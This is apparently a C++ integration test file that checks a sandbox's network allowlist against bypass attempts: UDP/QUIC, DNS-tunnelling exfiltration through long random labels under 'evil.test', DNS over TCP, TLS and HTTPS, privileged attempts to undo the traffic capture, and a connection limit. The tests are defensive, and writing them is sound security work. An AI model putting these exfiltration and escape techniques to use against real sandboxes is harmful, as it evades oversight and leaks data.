// Network allowlist, ways around it (docs/network.md, Ways around it): UDP and QUIC, DNS
// exfiltration (over UDP and TCP), DNS over TLS and HTTPS, undoing the capture from inside, and the
// connection limit.
#include <random>
#include <string>
#include <vector>

#include "tests/integration/network_audit.h"
#include "tests/integration/network_fixture.h"
#include "tests/integration/sandbox_fixture.h"

namespace sbx::testing {
namespace {

using nettest::CountEvents;

const std::string kPypi(nettest::AddressOf("pypi.test"));
const std::string kDns(nettest::kDnsAddress);

// `count` names "<16 hex>.evil.test", different on every call.
std::vector<std::string> ExfilNames(int count) {
  std::random_device random;
  std::vector<std::string> names;
  // Long labels, as tunnels use them: a 63-byte one (the most a label holds) and a 40-byte one
  // of random hex, so no cache or earlier run could have seen them.
  auto hex = [&](size_t length) {
    std::string text;
    while (text.size() < length) {
      char word[9];
      std::snprintf(word, sizeof(word), "%08x", random());
      text += word;
    }
    return text.substr(0, length);
  };
  for (int i = 0; i < count; ++i) names.push_back(hex(63) + "." + hex(40) + ".evil.test");
  return names;
}

// The dns probe's queries: `names` as A, one more of them as TXT, and pypi.test's HTTPS RR.
std::vector<std::string> ExfilQueries(const std::vector<std::string>& names) {
  std::vector<std::string> args = {"dns"};
  for (size_t i = 0; i + 1 < names.size(); ++i) args.push_back(names[i] + "/A");
  args.push_back(names.back() + "/TXT");
  args.push_back("pypi.test/HTTPS");
  return args;
}

TEST_F(NetworkAllowlist, Net21UdpToTheInternetIsRefusedAtOnceAndLogged) {
  // QUIC to an allowed name (its fake address) as well as UDP to an address.
  const std::vector<std::string> quic = {"udp", "pypi.test", "443"};
  for (int port : nettest::kUdpSinkPorts) {
    auto control = Control({"udp", kPypi, std::to_string(port)});
    EXPECT_EQ(Str(control.probe, "reply"), "udp-sink pypi.test:" + std::to_string(port))
        << control.diagnostics;
  }
  auto control = Control(quic);
  EXPECT_EQ(Str(control.probe, "reply"), "udp-sink pypi.test:443") << control.diagnostics;
  SBX_NET_SANDBOXED_HALF();
  for (int port : nettest::kUdpSinkPorts) {
    SCOPED_TRACE(port);
    auto run = Sandboxed(Allowlist({"pypi.test"}), {"udp", kPypi, std::to_string(port)});
    ASSERT_TRUE(run.ran);
    EXPECT_EQ(Str(run.probe, "errno_name"), "ECONNREFUSED") << run.diagnostics;
    EXPECT_LT(Number(run.probe, "ms"), 1000 * WallClockScale()) << run.diagnostics;
    EXPECT_EQ(CountEvents(run.events, {.kind = "datagram"}), 0u);
    ExpectRecord(ReadAuditLog(run.result), ConnDenied("udp", Endpoint(kPypi, port)));
  }
  auto run = Sandboxed(Allowlist({"pypi.test"}), quic);
  ASSERT_TRUE(run.ran);
  EXPECT_EQ(Str(run.probe, "errno_name"), "ECONNREFUSED") << run.diagnostics;
  EXPECT_EQ(CountEvents(run.events, {.kind = "datagram"}), 0u);
  const auto log = ReadAuditLog(run.result);
  ExpectRecord(log, {.ev = "conn", .decision = "deny", .reason = "udp", .name = "pypi.test",
                     .name_src = "fakeip", .dst_port = 443});
  // Its lookup went to the stub (logged as DNS), not through the tap.
  ExpectRecord(log, DnsAllowed("pypi.test", "allow[0]"));

  // IPv6 has its own tap. And port 53 of any address is the stub's, never a udp record (the
  // stub answers the probe's bytes or drops them; either way nothing leaves).
  const std::string v6(nettest::AddressOf("v6.test"));
  auto v6_control = Control({"udp", v6, "443"});
  EXPECT_EQ(Str(v6_control.probe, "errno_name"), "ECONNREFUSED")
      << "the internet's host refuses it: it got there. " << v6_control.diagnostics;
  auto v6_run = Sandboxed(Allowlist({"pypi.test"}), {"udp", v6, "443"});
  ASSERT_TRUE(v6_run.ran);
  EXPECT_EQ(Str(v6_run.probe, "errno_name"), "ECONNREFUSED") << v6_run.diagnostics;
  ExpectRecord(ReadAuditLog(v6_run.result), ConnDenied("udp", "[" + v6 + "]:443"));
  const std::vector<std::string> to_53 = {"udp", kPypi, std::to_string(nettest::kUdpDnsSinkPort)};
  auto dns_control = Control(to_53);
  EXPECT_EQ(Str(dns_control.probe, "reply"), "udp-sink pypi.test:53") << dns_control.diagnostics;
  EXPECT_EQ(CountEvents(dns_control.events, {.kind = "datagram", .port = 53}), 1u);
  auto dns_run = Sandboxed(Allowlist({"pypi.test"}), to_53);
  ASSERT_TRUE(dns_run.ran);
  EXPECT_EQ(CountEvents(dns_run.events, {.kind = "datagram"}), 0u);
  ExpectNoRecord(ReadAuditLog(dns_run.result), {.ev = "conn", .reason = "udp"});
}

TEST_F(NetworkAllowlist, Net22DnsExfiltrationNeverLeaves) {
  constexpr int kNames = 51;  // 50 A queries and one TXT
  auto control = Control(ExfilQueries(ExfilNames(kNames)));
  ASSERT_EQ(control.probe["answers"].size(), kNames + 1u) << control.diagnostics;
  for (const auto& answer : control.probe["answers"]) {
    EXPECT_EQ(Int(answer, "ancount"), 1) << "the internet's resolver answers: " << answer.dump();
  }
  EXPECT_EQ(CountEvents(control.events, {.kind = "dns"}), kNames + 1u);
  SBX_NET_SANDBOXED_HALF();
  const auto names = ExfilNames(kNames);
  auto run = Sandboxed(Allowlist({"pypi.test"}), ExfilQueries(names));
  ASSERT_TRUE(run.ran);
  ASSERT_EQ(run.probe["answers"].size(), kNames + 1u) << run.diagnostics;
  for (int i = 0; i < kNames; ++i) {
    EXPECT_EQ(Int(run.probe["answers"][i], "rcode"), 3)
        << "NXDOMAIN: " << run.probe["answers"][i].dump();
  }
  const auto https = run.probe["answers"][kNames];
  EXPECT_EQ(Int(https, "rcode"), 0) << "NODATA for an allowed name's HTTPS RR: " << https.dump();
  EXPECT_EQ(Int(https, "ancount"), 0) << https.dump();
  EXPECT_EQ(CountEvents(run.events, {.kind = "dns"}), 0u) << "the stub must never forward";
  auto log = ReadAuditLog(run.result);
  for (const auto& name : names) ExpectRecord(log, DnsDenied(name));
  ExpectNetworkSummary(run.result, 0, kNames);
}

// Resolvers fall back to TCP (`options use-vc`, `dig +tcp`, a truncated answer): the stub
// answers there too, from policy, and forwards nothing: at resolv.conf's 127.0.0.1 (the
// listener beside the redirect) and at any other address's port 53 (through the redirect).
TEST_F(NetworkAllowlist, Net29DnsOverTcpIsAnsweredByTheStubAndNeverForwarded) {
  const auto exfil = ExfilNames(1)[0];
  const std::vector<std::string> queries = {"pypi.test/A", exfil + "/A", "pypi.test/AAAA"};
  std::vector<std::string> probe = {"dns", "--tcp"};
  probe.insert(probe.end(), queries.begin(), queries.end());
  auto control = Control(probe);
  ASSERT_EQ(control.probe["answers"].size(), 3u) << control.diagnostics;
  for (const auto& answer : control.probe["answers"]) {
    EXPECT_EQ(Int(answer, "ancount"), 1) << "the internet's resolver answers: " << answer.dump();
  }
  EXPECT_EQ(CountEvents(control.events, {.kind = "dns"}), 3u) << control.diagnostics;
  SBX_NET_SANDBOXED_HALF();
  std::vector<std::string> to_internet_dns = {"dns", "--tcp", "--server", kDns};
  to_internet_dns.insert(to_internet_dns.end(), queries.begin(), queries.end());
  for (const auto* sandboxed_probe : {&probe, &to_internet_dns}) {
    SCOPED_TRACE(sandboxed_probe == &probe ? "resolv.conf's nameserver" : "the internet's resolver");
    auto run = Sandboxed(Allowlist({"pypi.test"}), *sandboxed_probe);
    ASSERT_TRUE(run.ran);
    const auto& answers = run.probe["answers"];
    ASSERT_EQ(answers.size(), 3u) << run.diagnostics;
    EXPECT_EQ(Int(answers[0], "rcode"), 0) << answers[0].dump();
    EXPECT_EQ(Int(answers[0], "ancount"), 1) << "the allowed name's fake address: " << answers[0].dump();
    EXPECT_EQ(Int(answers[1], "rcode"), 3) << "NXDOMAIN: " << answers[1].dump();
    EXPECT_EQ(Int(answers[2], "rcode"), 0) << answers[2].dump();
    EXPECT_EQ(Int(answers[2], "ancount"), 0) << "NODATA for AAAA, as over UDP: " << answers[2].dump();
    EXPECT_EQ(CountEvents(run.events, {.kind = "dns"}), 0u) << "the stub must never forward";
    auto log = ReadAuditLog(run.result);
    ExpectRecord(log, DnsAllowed("pypi.test", "allow[0]"));
    ExpectRecord(log, DnsDenied(exfil));
    // Not a connection decided and refused: a query answered.
    ExpectNoRecord(log, ConnDenied("no_rule", Endpoint(kDns, 53)));
    ExpectNetworkSummary(run.result, 2, 1, exfil);  // A and AAAA of pypi.test
  }
}

TEST_F(NetworkAllowlist, Net23DnsOverTlsAndHttpsAreRefused) {
  const auto qname = ExfilNames(1)[0];
  const std::vector<std::string> dot = {"dot",     kDns, "--sni", std::string(nettest::kDnsName),
                                        "--qname", qname};
  const std::vector<std::string> doh = {"doh", "https://cdn.test/dns-query", "--qname", qname};
  for (const auto* probe : {&dot, &doh}) {
    auto control = Control(*probe);
    EXPECT_EQ(Int(control.probe, "ancount"), 1) << control.diagnostics;
  }
  SBX_NET_SANDBOXED_HALF();
  const auto policy = Allowlist({"pypi.test"});
  auto run = Sandboxed(policy, dot);
  ASSERT_TRUE(run.ran);
  ExpectReset(run.probe);
  EXPECT_EQ(CountEvents(run.events, {.server = std::string(nettest::kDnsName)}), 0u);
  ExpectRecord(ReadAuditLog(run.result), ConnDenied("no_rule", Endpoint(kDns, nettest::kDotPort)));

  run = Sandboxed(policy, doh);
  ASSERT_TRUE(run.ran);
  EXPECT_EQ(Str(run.probe, "errno_name"), "EAI_NONAME") << run.diagnostics;
  EXPECT_EQ(CountEvents(run.events, {.server = "cdn.test"}), 0u);
  ExpectRecord(ReadAuditLog(run.result), DnsDenied("cdn.test"));
}

TEST_F(NetworkAllowlist, Net24TheWorkloadCannotUndoTheCapture) {
  const std::vector<std::string> probe = {"privileged", "--then-url", "https://pypi.test/"};
  // As root in T each step passes the permission check (the route and table do not exist).
  auto control = Control(probe);
  EXPECT_EQ(Str(control.probe, "route_del"), "ESRCH") << control.diagnostics;
  EXPECT_EQ(Str(control.probe, "nft"), "ENOENT") << control.diagnostics;
  EXPECT_EQ(Str(control.probe, "raw_socket"), "ok") << control.diagnostics;
  EXPECT_EQ(Str(control.probe, "packet_socket"), "ok") << control.diagnostics;
  EXPECT_EQ(Str(control.probe, "bind_443"), "ok") << control.diagnostics;
  SBX_NET_SANDBOXED_HALF();
  auto run = Sandboxed(Allowlist({"pypi.test"}), probe);
  ASSERT_TRUE(run.ran);
  EXPECT_EQ(Str(run.probe, "route_del"), "EPERM") << run.diagnostics;
  EXPECT_EQ(Str(run.probe, "nft"), "socket:EPERM") << run.diagnostics;  // seccomp
  EXPECT_EQ(Str(run.probe, "raw_socket"), "EPERM") << run.diagnostics;
  EXPECT_EQ(Str(run.probe, "packet_socket"), "EAFNOSUPPORT") << run.diagnostics;  // seccomp
  EXPECT_EQ(Str(run.probe, "bind_443"), "EACCES") << run.diagnostics;
  // The capture still holds: the allowed name answers through netd afterwards.
  EXPECT_EQ(Str(run.probe["then"], "body"), "pypi.test") << run.diagnostics;
  ExpectRecord(ReadAuditLog(run.result), ConnAllowed("pypi.test", "fakeip", Endpoint(kPypi, 443)));
}

TEST_F(NetworkAllowlist, Net30ConnectionsBeyondTheLimitAreDenied) {
  constexpr int kLimit = 5, kTries = 10;
  const std::vector<std::string> probe = {"tls_many",  "pypi.test", "--sni",
                                          "pypi.test", "--count",   std::to_string(kTries)};
  auto control = Control(probe);
  ASSERT_EQ(control.probe["results"].size(), static_cast<size_t>(kTries)) << control.diagnostics;
  for (const auto& result : control.probe["results"]) EXPECT_EQ(Int(result, "status"), 200);
  SBX_NET_SANDBOXED_HALF();
  auto policy = Allowlist({"pypi.test"});
  policy["limits"] = {{"max_connections", kLimit}};
  auto run = Sandboxed(policy, probe);
  ASSERT_TRUE(run.ran);
  ASSERT_EQ(run.probe["results"].size(), static_cast<size_t>(kTries)) << run.diagnostics;
  for (int i = 0; i < kTries; ++i) {
    SCOPED_TRACE(i);
    const auto& result = run.probe["results"][i];
    if (i < kLimit) {
      EXPECT_EQ(Str(result, "body"), "pypi.test") << result.dump();
    } else {
      ExpectReset(result);
    }
  }
  EXPECT_EQ(CountEvents(run.events, {.kind = "request", .server = "pypi.test"}),
            static_cast<size_t>(kLimit));
  auto log = ReadAuditLog(run.result);
  EXPECT_GE(Matching(log, ConnAllowed("pypi.test", "fakeip", Endpoint(kPypi, 443))).size(),
            static_cast<size_t>(kLimit));
  EXPECT_GE(Matching(log, ConnDenied("limit_connections")).size(),
            static_cast<size_t>(kTries - kLimit));
}

}  // namespace
}  // namespace sbx::testing
